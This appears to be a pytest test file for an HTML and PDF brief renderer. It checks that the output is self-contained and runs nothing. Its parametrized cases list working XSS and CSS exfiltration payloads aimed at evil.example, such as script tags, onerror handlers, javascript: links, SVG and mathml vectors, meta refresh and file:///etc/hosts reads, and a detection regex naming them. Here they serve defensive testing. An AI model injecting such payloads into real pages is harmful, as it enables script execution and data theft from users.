"""The HTML copy: whole, marked on screen and paper, and nothing in it runs or reaches out."""

import re
from dataclasses import replace
from typing import Any

import pytest

from briefbuilder.domain.briefs import FigureBlock, Media, Section, TextBlock
from briefbuilder.domain.templates import LoadedTemplate
from briefbuilder.render.counting import missing_in
from briefbuilder.render.job import LayoutJob, make_job
from briefbuilder.render.pdf import PdfMaker
from briefbuilder.render.pdf_reading import read_pdf
from briefbuilder.render.sandbox import render_template
from briefbuilder.render.web.page import (
    MEDIA,
    POLICY,
    WebPage,
    in_one_file,
    make_page,
    read_page,
    reading_job,
)
from helpers.render_samples import Copy, order, plain_template, sample_brief

LIVE = re.compile(
    r"<(?:script|iframe|object|embed|base|link|form|input|button|audio|video|foreignobject|math)\b"
    r"|\son\w+\s*=|javascript:|vbscript:|@import|https?://evil|//evil|url\(\s*['\"]?(?!data:|#)"
    r"|http-equiv=[\"']?refresh|expression\(|behavior:|srcset|srcdoc",
    re.IGNORECASE,
)


def job_of(*, html: str = "", css: str = "", **changes: Any) -> LayoutJob:
    return make_job(sample_brief(**changes), plain_template(html=html, css=css), order())


def page_of(job: LayoutJob) -> WebPage:
    return make_page(render_template(job.sources, job.context), job)


def sentences(job: LayoutJob, page: WebPage, maker: PdfMaker) -> list[str]:
    """What is missing on a screen or on paper."""
    readings = [read_page(maker.flow(reading_job(page, job, medium))) for medium in MEDIA]
    return [one.sentence for each in readings for one in missing_in(each, job.expected)]


def with_body(html: str) -> str:
    return plain_template().html.replace("</main>", f"{html}</main>")


def with_head(html: str) -> str:
    return plain_template().html.replace("</head>", f"{html}</head>")


@pytest.fixture(scope="module")
def job() -> LayoutJob:
    return job_of()


@pytest.fixture(scope="module")
def page(job: LayoutJob) -> WebPage:
    return page_of(job)


@pytest.fixture(scope="module")
def copy(job: LayoutJob, page: WebPage, maker: PdfMaker) -> str:
    return in_one_file(page, job, [maker.flow(reading_job(page, job, one)) for one in MEDIA])


@pytest.mark.slow
def test_what_went_in_is_seen_on_a_screen_and_on_paper(
    job: LayoutJob, page: WebPage, maker: PdfMaker
) -> None:
    assert page.problems == ()
    assert sentences(job, page, maker) == []


@pytest.mark.slow
def test_the_first_thing_that_it_says_is_to_load_and_run_nothing(copy: str) -> None:
    first = copy.split("<head>", 1)[1].lstrip()
    assert first.startswith(f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">')
    assert "default-src 'none'" in POLICY
    assert "script" not in POLICY
    assert '<meta name="viewport"' in copy


@pytest.mark.slow
def test_it_needs_no_other_file_and_reaches_for_none(copy: str) -> None:
    assert "library://" not in copy
    assert LIVE.search(copy) is None
    assert "data:image/png;base64," in copy
    assert "data:font/woff2;base64," in copy
    outward = set(re.findall(r'(?:src|href)="(?!data:|#)([^"]*)"', copy))
    assert outward == set(re.findall(r'<a[^>]* href="(https://[^"]*)"', copy))
    assert "https://undocs.org/x" in outward


@pytest.mark.slow
def test_fonts_are_cut_down_to_what_is_shown(copy: str) -> None:
    assert len(copy) < 200_000


@pytest.mark.parametrize(
    "html",
    [
        with_body("<script>alert(1)</script>"),
        with_body("<ScRiPt src='//evil.example/x.js'></ScRiPt>"),
        with_body("<p onclick='x()'>x</p>"),
        with_body("<p OnMouseOver=x()>x</p>"),
        with_body("<img src='http://evil.example/x.png' alt='x'>"),
        with_body("<img src='//evil.example/x.png' alt='x'>"),
        with_body("<img src='file:///etc/hosts' alt='x'>"),
        with_body("<img src='library://template/style.css' srcset='http://evil.example/x 2x'>"),
        with_body("<img src=x onerror=alert(1)>"),
        with_body("<iframe src='http://evil.example'></iframe>"),
        with_body("<iframe srcdoc='&lt;script&gt;1&lt;/script&gt;'></iframe>"),
        with_body("<object data='http://evil.example/x.swf'></object>"),
        with_body("<embed src='http://evil.example/x'>"),
        with_body("<video src='http://evil.example/x'></video>"),
        with_body("<form action='http://evil.example'><input name=a></form>"),
        with_body("<a href='javascript:alert(1)'>x</a>"),
        with_body("<a href=' JaVaScRiPt:alert(1)'>x</a>"),
        with_body("<a href='data:text/html,x'>x</a>"),
        with_body("<a href='https://a.example' ping='http://evil.example'>x</a>"),
        with_body("<svg><script>1</script></svg>"),
        with_body("<svg><image href='http://evil.example/x'/></svg>"),
        with_body("<svg><use xlink:href='http://evil.example/x#a'/></svg>"),
        with_body("<svg><a xlink:href='javascript:1'><text>x</text></a></svg>"),
        with_body("<svg><rect fill='url(http://evil.example/x#a)'/></svg>"),
        with_body("<svg><foreignObject><p>x</p></foreignObject></svg>"),
        with_body("<svg><animate attributeName='href' to='javascript:1'/></svg>"),
        with_body("<svg onload='x()'></svg>"),
        with_body("<math><mtext><table><mglyph><style><img src=x onerror=1></style></mglyph>"),
        with_body("<p style='background: url(http://evil.example/x)'>x</p>"),
        with_body("<div hidden>x</div>"),
        with_body("<template><p>x</p></template>"),
        with_body("<noscript><img src='http://evil.example/x'></noscript>"),
        with_body("<style>p { background: url(//evil.example/x) }</style>"),
        with_head("<base href='http://evil.example/'>"),
        with_head("<meta http-equiv='refresh' content='0;url=http://evil.example'>"),
        with_head("<link rel='stylesheet' href='http://evil.example/x.css'>"),
        with_head("<link rel='preload' href='library://template/style.css'>"),
        with_head("<style>@import 'http://evil.example/x.css';</style>"),
    ],
)
def test_what_could_run_or_reach_out_is_refused_and_is_not_in_the_page(html: str) -> None:
    page = page_of(job_of(html=html))
    assert page.problems != ()
    assert all(str(one.place).startswith("brief.html.j2") for one in page.problems)
    assert all("cannot hold" in one.sentence for one in page.problems)
    kept = re.sub(r"library://[\w./-]+", "data:", page.html.split("</head>", 1)[1])
    assert LIVE.search(kept) is None


@pytest.mark.parametrize(
    "css",
    [
        "@import url(http://evil.example/x.css);",
        "@import '//evil.example/x.css';",
        "@import url(library://shared/nothing.css);",
        "p { background: url(http://evil.example/x) }",
        "p { background: url('file:///etc/hosts') }",
        "p { background: \\75rl(http://evil.example/x) }",
        "p { background-image: image-set('http://evil.example/x' 1x) }",
        "p { width: expression(alert(1)) }",
        "p { behavior: url(#default#x) }",
        "p { -moz-binding: url(http://evil.example/x) }",
        "@font-face { font-family: x; src: url(http://evil.example/x.woff) }",
        "@media print { p { background: url(http://evil.example/x) } }",
        "@supports (a: b) { p { list-style: url(http://evil.example/x) } }",
        "p { & b { background: url(http://evil.example/x) } }",
        "@document url(http://evil.example) { p { color: red } }",
    ],
)
def test_a_style_sheet_that_reaches_out_is_refused(css: str) -> None:
    plain = plain_template()
    loaded = LoadedTemplate(plain.template, plain.html, css + plain.css, plain.shared)
    page = page_of(make_job(sample_brief(), loaded, order()))
    assert [str(one.place) for one in page.problems] == ["style.css"] * len(page.problems)
    assert page.problems != ()


def test_style_sheets_that_are_imported_are_written_in_and_come_to_an_end() -> None:
    plain = plain_template()
    shared = {
        **plain.shared,
        "a.css": b"@import url(library://shared/a.css); .from-a { color: red }",
    }
    css = "@import url('library://shared/a.css');" + plain.css
    loaded = LoadedTemplate(plain.template, plain.html, css, shared)
    page = page_of(make_job(sample_brief(), loaded, order()))
    assert page.problems == ()
    assert page.html.count(".from-a") == 4
    assert "@import" not in page.html


@pytest.mark.parametrize("media", ["print", " Screen, print "])
def test_a_style_sheet_counts_only_where_it_says(media: str) -> None:
    """However it comes in: imported, linked, or in the form's own words."""
    plain = plain_template()
    shared = {**plain.shared, "one.css": b".imported { color: red }"}
    shared["two.css"] = b".linked { color: red }"
    own = (
        f'<link rel="stylesheet" media="{media}" href="library://shared/two.css">'
        f'<style media="{media}">.own {{ color: red }}</style>'
        '<style media="(min-width: 9px)">.narrow { color: red }</style>'
    )
    css = f"@import url(library://shared/one.css) {media};{plain.css}"
    html = plain.html.replace("</head>", f"{own}</head>")
    page = page_of(
        make_job(sample_brief(), LoadedTemplate(plain.template, html, css, shared), order())
    )
    assert page.problems == ()
    assert ".narrow" not in page.html
    said = re.sub(r"\s", "", page.html).lower()
    where = re.sub(r"\s", "", media).lower()
    for name in ("imported", "linked", "own"):
        assert f"@media{where}{{.{name}:not(" in said


def test_a_style_sheet_cannot_close_its_element() -> None:
    page = page_of(job_of(css="p::before { content: '</style><script>x</script>' }"))
    assert "</style><script>" not in page.html


@pytest.mark.slow
def test_an_authors_words_that_look_like_an_address_stay_words(maker: PdfMaker) -> None:
    section = Section(
        id="issue",
        heading="Issue",
        blocks=(TextBlock(id="text", text="See library://media/map.png & <script>x</script>"),),
    )
    job = job_of(sections=(section,), pins=())
    page = page_of(job)
    assert sentences(job, page, maker) == []
    made = in_one_file(page, job, [maker.flow(reading_job(page, job, "screen"))])
    assert "See library:&#47;/media/map.png &amp; &lt;script&gt;" in made


@pytest.mark.slow
def test_a_title_that_looks_like_an_address_stays_words(maker: PdfMaker) -> None:
    job = job_of(title="See library://nothing, library://shared/fonts/a.ttf", sections=(), pins=())
    page = page_of(job)
    made = in_one_file(page, job, [maker.flow(reading_job(page, job, "screen"))])
    assert "<title>See library:&#47;/nothing, library:&#47;/shared/fonts/a.ttf</title>" in made


@pytest.mark.slow
@pytest.mark.parametrize(
    "css",
    [
        "blockquote { display: none }",
        "@media screen { blockquote { display: none } }",
        "@media print { blockquote { visibility: hidden } }",
        "ol.notes { display: none }",
        "figure { display: none }",
    ],
)
def test_what_a_style_hides_in_either_medium_is_missed(css: str, maker: PdfMaker) -> None:
    job = job_of(css=css)
    assert sentences(job, page_of(job), maker) != []


def test_furniture_of_pages_is_not_shown_twice(
    page: WebPage, job: LayoutJob, maker: PdfMaker
) -> None:
    reading = read_page(maker.flow(reading_job(page, job, "screen")))
    assert reading.words.count("OPEN") == 2
    assert "@page" not in re.sub(
        r"<style>[^<]*copy-edge.*?</style>", "", page.html, flags=re.DOTALL
    )


@pytest.mark.slow
def test_every_printed_page_is_marked_and_no_word_is_under_a_marking(maker: PdfMaker) -> None:
    text = "\n\n".join(f"Paragraph {number} of a long text. " * 12 for number in range(40))
    section = Section(id="issue", heading="Issue", blocks=(TextBlock(id="text", text=text),))
    job = job_of(sections=(section,), pins=())
    printed = maker.make(replace(reading_job(page_of(job), job, "print"), variant=None))
    pages = read_pdf(printed.pdf).pages
    assert len(pages) > 3
    for page in pages:
        assert "OPEN" in page.top
        assert "Draft 1" in page.top
        assert "OPEN" in page.bottom
        assert "Paragraph" not in page.bottom


@pytest.mark.slow
def test_a_drawing_of_the_authors_stands_as_points(maker: PdfMaker) -> None:
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40">'
        b'<text x="5" y="20" font-family="Brief Figure">Seen</text></svg>'
    )
    figure = FigureBlock(id="figure1", media="map.svg", alt="A word", caption="Word")
    section = Section(id="issue", heading="Issue", blocks=(figure,))
    media = (Media(name="map.svg", media_type="image/svg+xml", data=svg),)
    job = make_job(
        sample_brief(sections=(section,), pins=(), media=media),
        plain_template(),
        order(Copy.RELEASE),
    )
    page = page_of(job)
    made = in_one_file(page, job, [maker.flow(reading_job(page, job, one)) for one in MEDIA])
    assert "data:image/png;base64," in made
    assert "image/svg+xml" not in made


@pytest.mark.slow
def test_a_browser_is_told_not_to_leave_the_head_of_a_table_alone(copy: str) -> None:
    # The layout keeps it with a row of its own accord; browsers repeat it and leave the first.
    assert re.search(r"@media print \{[^@]*\bthead \{ break-after: avoid; \}", copy)


@pytest.mark.slow
def test_the_same_brief_gives_the_same_bytes(copy: str, maker: PdfMaker) -> None:
    job = job_of()
    page = page_of(job)
    flows = [maker.flow(reading_job(page, job, one)) for one in MEDIA]
    assert in_one_file(page, job, flows) == copy
